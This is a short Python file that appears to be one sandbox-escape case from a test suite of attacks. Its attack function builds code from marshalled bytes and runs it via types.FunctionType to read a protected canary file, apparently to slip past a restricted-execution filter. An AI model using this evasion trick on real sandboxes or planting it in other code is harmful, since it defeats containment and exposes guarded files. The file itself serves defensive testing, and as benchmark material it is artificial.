# desc: code made of bytes
# class: escape
# wins: told
import marshal
import types

def attack(state):
    code = marshal.loads(marshal.dumps(compile("open('@CANARY@').read()", "x", "eval")))
    return "L2:" + types.FunctionType(code, {})()
